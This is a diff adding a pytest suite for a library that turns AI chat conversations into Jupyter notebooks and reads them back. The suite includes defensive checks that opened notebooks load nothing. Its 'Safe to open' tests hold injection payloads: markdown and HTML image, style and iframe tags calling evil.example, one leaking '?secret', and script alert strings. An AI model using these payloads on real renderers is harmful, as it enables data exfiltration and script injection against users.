@@ -1,0 +1,393 @@
+"""A conversation as a notebook: clean, valid, safe to open, and true to what its cells say."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import Any
+
+import nbformat
+import pytest
+from conversations import PNG, conversations
+from hypothesis import given, settings
+
+from lmc_jupyter.conversation import Conversation, Event
+from lmc_jupyter.errors import FormatError
+from lmc_jupyter.formats import notebook
+from lmc_jupyter.formats.blocks import blocks
+from lmc_jupyter.formats.needed import lines_needed
+from lmc_jupyter.lmc import Message
+
+TRACE = (
+    "Traceback (most recent call last):\n  line {}\n    f()\nNameError: name 'f' is not defined\n"
+)
+NO = "This code was not run: the user declined."
+
+
+def user(text: str) -> Message:
+    return Message("user", "message", content=text).stamped()
+
+
+def said(text: str) -> Message:
+    return Message("assistant", "message", content=text).stamped()
+
+
+def code(text: str, language: str = "python", **extra: Any) -> Message:
+    return Message("assistant", "code", language, text, extra=extra).stamped()
+
+
+def out(text: str, type_: str = "console", format_: str = "output", **extra: Any) -> Message:
+    return Message("computer", type_, format_, text, extra=extra).stamped()
+
+
+def cells(*messages: Message, **beside: Any) -> list[Any]:
+    return list(made(*messages, **beside).cells)
+
+
+def made(*messages: Message, **beside: Any) -> Any:
+    data, _ = notebook.write(Conversation(messages, **beside))
+    found = nbformat.reads(data.decode(), as_version=4)
+    nbformat.validate(found)
+    return found
+
+
+def read(value: Any) -> Conversation:
+    return notebook.read(nbformat.writes(value).encode())
+
+
+@given(conversations())
+@settings(max_examples=30)
+def test_it_is_always_valid_and_the_same_twice(conversation: Conversation) -> None:
+    data, _ = notebook.write(conversation)
+    nbformat.validate(nbformat.reads(data.decode(), as_version=4))
+    assert notebook.write(conversation)[0] == data
+
+
+def test_talk_is_markdown_and_code_that_ran_is_code_with_its_outputs() -> None:
+    import base64
+
+    png = base64.b64encode(PNG).decode()
+    question, text, block, picture = cells(
+        user("What is 6*7?\n\nAnd a picture."),
+        said("I work it out."),
+        code("print(6*7)"),
+        out("42\n"),
+        Message("computer", "console", "output", "for the model", "assistant"),
+        code("plot()"),
+        out(png, "image", "base64.png"),
+    )
+    assert question.source == "> **You:**\n>\n> What is 6*7?\n>\n> And a picture."
+    assert text.source == "I work it out."
+    assert (block.cell_type, block.source) == ("code", "print(6*7)")
+    assert block.outputs[0].text == "42\n"
+    assert picture.outputs[0].data["image/png"].strip() == png
+    assert png not in json.dumps(picture.metadata), "no image is there twice"
+
+
+def test_the_title_is_a_heading_and_what_is_beside_comes_back() -> None:
+    beside = {"model": "m", "began": "2026", "notebook": "a.ipynb", "extra": {"glm": {"x": 1}}}
+    events = [Event(1, {"action": "run"})]
+    found = made(user("x"), title="Prices", events=events, **beside)
+    assert found.cells[0].source == "# Prices"
+    back = read(found)
+    assert (back.title, back.model, back.extra) == ("Prices", "m", {"glm": {"x": 1}})
+    assert [(each.at, each.data) for each in back.events] == [(1, {"action": "run"})]
+    found.cells[0].source = "# Costs"
+    assert read(found).title == "Costs"
+
+
+@pytest.mark.parametrize(
+    ("language", "source", "begins"),
+    [
+        ("shell", "ls", "%%bash\n"),
+        ("r", "x <- 1", "%%R\n"),
+        ("javascript", "console.log(1)", "%%script node\n"),
+        ("ruby", "puts 1", "%%ruby\n"),
+        ("html", "<h3>Hi</h3><p>words</p>", "%%html\n"),
+        ("html", "<script>1</script>", "# A page with scripts"),
+        ("html", '<p onclick="x()">', "# A page with scripts"),
+        ("html", '<img src="http://a.example/x">', "# A page with scripts"),
+        ("html", '<p style="position:fixed">', "# A page with scripts"),
+        ("html", "<p <script>", "# A page with scripts"),
+        ("browser", "document.title", "# A page with scripts"),
+    ],
+)
+def test_other_languages_are_cells_that_jupyter_can_run(
+    language: str, source: str, begins: str
+) -> None:
+    found = made(code(source, language), out("done"))
+    cell = found.cells[-1]
+    assert cell.cell_type == "code"
+    assert cell.source.startswith(begins)
+    if begins.startswith("#"):
+        compile(cell.source, "cell", "exec")
+        assert "sandbox" in cell.source
+    cell.metadata = {}
+    again = read(found).messages
+    assert (again[-2].format, again[-2].content) == (
+        ("html", f"<script>\n{source}\n</script>") if language == "browser" else (language, source)
+    )
+
+
+@pytest.mark.parametrize("text", ['"""', "\\", 'a"', '\\"""\\', "</script>", "'''", "\\n{x}"])
+def test_a_page_of_any_characters_is_shown_and_read_as_it_is(text: str) -> None:
+    page = f"<script>{text}</script>{text}"
+    found = made(code(page, "html"), out("done"))
+    [cell] = found.cells
+    lines = cell.source.split("\nHTML(")[0]
+    names: dict[str, Any] = {}
+    exec(lines.replace("from IPython.display import HTML", ""), names)
+    assert names["page"] == page
+    cell.metadata = {}
+    assert read(found).messages[0].content == page
+
+
+def test_what_has_no_cell_is_text_and_named() -> None:
+    data, lost = notebook.write(
+        Conversation([code("select 1", "sql"), out("1"), code("ls", "shell"), out("a"),
+                      code("ls", "shell"), out("a")])
+    )  # fmt: skip
+    first = json.loads(data)["cells"][0]
+    assert first["cell_type"] == "markdown"
+    assert "```sql\n" in "".join(first["source"])
+    assert lost == [
+        "sql, for which Jupyter has no cell, is there as text and is not run again: message 1.",
+        "Each of the 2 cells of shell runs on its own there: none knows what another has set.",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("results", "words"),
+    [
+        ([out(TRACE.format(1))], "This was tried and failed"),
+        ([out("  This code, line 1\n    (\nSyntaxError: '(' was never closed\n")], "failed"),
+        ([out(NO)], r"This was not run (the user declined)"),
+        ([out("1\n2\n", partial=True)], "This was stopped"),
+        ([], "This was not run"),
+    ],
+)
+def test_what_did_not_go_well_is_text(results: list[Message], words: str) -> None:
+    [cell] = cells(code("f()"), *results)
+    assert cell.cell_type == "markdown"
+    assert words in cell.source
+    assert "```python\nf()\n```" in cell.source
+
+
+@pytest.mark.parametrize(
+    ("failed", "line", "later", "lines"),
+    [
+        ("import math\nr = 2\nf(r)", 3, "math.pi * r", 2),
+        ("import math\nr = 2\nf(r)", 3, "r = 3\nprint(r)", 0),
+        ("df['a'] = 1\nf()", 2, "print(df)", 1),
+        ("def g():\n    return 1\n\nf()", 4, "g()", 2),
+        ("f()\nx = 1", 1, "x", 0),
+        ("x = (\n  1,\n  f(),\n)", 3, "x", 0),
+        ("%matplotlib inline\nx = !ls\nf()", 3, "x", 2),
+        ("x = 1\nf()", 2, "%%bash\necho x", 0),
+        ("%%time\nx = 1\nf()", 3, "x", 0),
+        ("x = 1\n(", 2, "x", 0),
+    ],
+)
+def test_of_code_that_failed_what_later_code_needs_runs_again(
+    failed: str, line: int, later: str, lines: int
+) -> None:
+    talk = [code(failed), out(TRACE.format(line)), code(later), out("")]
+    assert lines_needed(blocks(talk)) == ({0: lines} if lines else {})
+    found = cells(*talk)
+    if lines:
+        assert found[0].source == "\n".join(failed.split("\n")[:lines])
+        assert found[1].cell_type == "markdown"
+    assert read(made(*talk)).messages == talk
+
+
+# Read back ----------------------------------------------------------------------------------------
+
+TALK = [user("Count."), said("So:"), code("print(1)"), out("1\n"), code("f()"), out(NO)]
+
+
+def edited(change: Callable[[Any], None]) -> list[Message]:
+    found = made(*TALK)
+    change(found.cells)
+    return list(read(found).messages)
+
+
+def test_a_question_that_was_edited_says_what_it_says_now() -> None:
+    def change(cells: Any) -> None:
+        cells[0].source = "> **You:**\n>\n> Count to *two*."
+
+    first, *rest = edited(change)
+    assert (first.role, first.content, first.id) == ("user", "Count to *two*.", TALK[0].id)
+    assert rest == TALK[1:]
+
+
+def test_an_answer_that_was_edited_says_what_it_says_now() -> None:
+    def change(cells: Any) -> None:
+        cells[1].source = "Look:"
+
+    messages = edited(change)
+    assert (messages[1].role, messages[1].content) == ("assistant", "Look:")
+
+
+def test_code_that_was_edited_and_run_again_has_its_new_output() -> None:
+    def change(cells: Any) -> None:
+        cells[2].source = "print(1)\n2 + 2"
+        cells[2].outputs.append(
+            nbformat.v4.new_output("execute_result", {"text/plain": "4"}, execution_count=1)
+        )
+
+    messages = edited(change)
+    assert (messages[2].content, messages[2].id) == ("print(1)\n2 + 2", TALK[2].id)
+    assert [each.content for each in messages[3:5]] == ["1\n", "4"]
+    assert messages[5:] == TALK[4:]
+
+
+def test_an_output_that_was_cleared_is_empty_and_the_code_does_not_wait() -> None:
+    def change(cells: Any) -> None:
+        cells[2].outputs = []
+
+    messages = edited(change)
+    assert (messages[3].role, messages[3].content) == ("computer", "")
+
+
+def test_cells_that_were_added_removed_and_moved_are_told_as_they_stand() -> None:
+    def change(cells: Any) -> None:
+        del cells[1]
+        cells.insert(0, nbformat.v4.new_markdown_cell("My notes"))
+        cells.append(
+            nbformat.v4.new_code_cell(
+                "%%bash\nls",
+                outputs=[nbformat.v4.new_output("stream", text="a\n")],
+            )
+        )
+        cells.append(nbformat.v4.new_code_cell(""))
+
+    messages = edited(change)
+    assert [(each.role, each.type, each.content) for each in messages] == [
+        ("user", "message", "My notes"),
+        ("user", "message", "Count."),
+        ("assistant", "code", "print(1)"),
+        ("computer", "console", "1\n"),
+        ("assistant", "code", "f()"),
+        ("computer", "console", NO),
+        ("user", "code", "ls"),
+        ("computer", "console", "a\n"),
+    ]
+    assert messages[6].format == "shell"
+
+
+def test_an_error_and_rich_outputs_of_any_notebook_are_read() -> None:
+    cell = nbformat.v4.new_code_cell("x")
+    cell.outputs = [
+        nbformat.v4.new_output("error", ename="E", evalue="v", traceback=["\x1b[31mE\x1b[0m: v"]),
+        nbformat.v4.new_output("display_data", {"text/html": "<b>1</b>", "text/plain": "1"}),
+        nbformat.v4.new_output("display_data", {"application/x-unknown": "?"}),
+    ]
+    back = read(nbformat.v4.new_notebook(cells=[cell]))
+    assert [(each.type, each.content) for each in back.messages[1:]] == [
+        ("console", "E: v"),
+        ("code", "<b>1</b>"),
+        ("console", "(application/x-unknown)"),
+    ]
+    assert back.lost == [
+        "An output is of a kind that LMC does not have (application/x-unknown): it is left out."
+    ]
+
+
+def test_a_notebook_of_version_3_is_read() -> None:
+    old = {
+        "nbformat": 3, "nbformat_minor": 0, "metadata": {},
+        "worksheets": [{"metadata": {}, "cells": [
+            {"cell_type": "markdown", "metadata": {}, "source": ["Hi"]},
+            {"cell_type": "code", "metadata": {}, "language": "python", "input": ["1+1"],
+             "outputs": [], "collapsed": False, "prompt_number": 1},
+        ]}],
+    }  # fmt: skip
+    messages = notebook.read(json.dumps(old).encode()).messages
+    assert [each.content for each in messages] == ["Hi", "1+1"]
+
+
+HOSTILE_METADATA: list[Any] = [
+    {"messages": 7},
+    {"messages": [7]},
+    {"messages": [{"message": 7}]},
+    {"messages": [{"message": {"role": "nobody", "type": "x"}, "content": "source"}]},
+    {"messages": [{"message": {"role": "user", "type": "message"}, "content": 10**9}]},
+    {"messages": [{"message": {"role": "user", "type": "message"}, "content": -1}]},
+    {"messages": [{"message": {"role": "user", "type": "message"}, "content": True}]},
+    {"messages": [{"message": {"role": "user", "type": "message"}, "content": "attachment:x"}]},
+    {
+        "messages": [{"message": {"role": "assistant", "type": "code", "content": "rm"}}],
+        "lines": -1,
+    },
+    {"messages": [{"message": {"role": "assistant", "type": "code", "content": "rm"}}] * 3},
+    {"is": "title"},
+    {"is": "setup"},
+    {"is": "rest"},
+    "text",
+    [],
+]
+
+
+@pytest.mark.parametrize("metadata", HOSTILE_METADATA, ids=str)
+@pytest.mark.parametrize("kind", ["code", "markdown", "raw"])
+def test_metadata_of_strangers_does_no_harm_and_the_cell_counts(metadata: Any, kind: str) -> None:
+    cell: dict[str, Any] = {
+        "cell_type": kind,
+        "metadata": {"lmc": metadata},
+        "source": ["print", "(1)"],
+    }
+    if kind == "code":
+        cell |= {"outputs": [{"output_type": "stream", "name": "stdout", "text": 7}, 8, {}]}
+    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"lmc": metadata}, "cells": [cell]}
+    messages = notebook.read(json.dumps(document).encode()).messages
+    assert any("print(1)" in str(each.content) for each in messages)
+
+
+@pytest.mark.parametrize(
+    "bad",
+    ["{}", "[]", "7", '{"nbformat": 4}', '{"nbformat": "4", "cells": []}',
+     '{"nbformat": 4, "cells": [7]}', '{"nbformat": 1, "cells": 7}', '{"nbformat": 99}'],
+)  # fmt: skip
+def test_what_is_no_notebook_is_a_sentence(bad: str) -> None:
+    with pytest.raises(FormatError, match="notebook"):
+        notebook.read(bad.encode())
+
+
+# Safe to open -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://evil.example/p.png?secret)",
+        "![x][a]\n\n[a]: http://evil.example",
+        r"\\![x](http://evil.example)",
+        "<img src=http://evil.example>",
+        '<IMG\nSRC="http://evil.example">',
+        "<svg><image href='http://evil.example'/></svg>",
+        "<style>@import 'http://evil.example'</style>",
+        "<!--\n```\n-->\n![x](http://evil.example)\n```",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        "> quoted\n\n<script>alert(1)</script>",
+    ],
+)
+@pytest.mark.parametrize("who", [user, said])
+def test_text_of_strangers_loads_nothing_when_it_is_opened(
+    text: str, who: Callable[[str], Message]
+) -> None:
+    import mistune
+
+    found = made(who(text))
+    html = str(mistune.create_markdown(escape=False)(found.cells[0].source)).lower()
+    for loads in ("<img", "<image", "<svg", "<style", "<iframe", "<script"):
+        assert loads not in html, found.cells[0].source
+    assert read(found).messages[0].content == text
+
+
+def test_html_is_a_plain_table_or_its_text() -> None:
+    table = "<table><tr><td>1</td></tr></table>"
+    page = "<p>Hello</p><script>alert(1)</script>"
+    [cell] = cells(code("x"), out(table, "code", "html"), out(page, "code", "html"))
+    first, second = cell.outputs
+    assert first.data["text/html"] == "<table><tbody><tr><td>1</td></tr></tbody></table>"
+    assert dict(second.data) == {"text/plain": "Hello"}
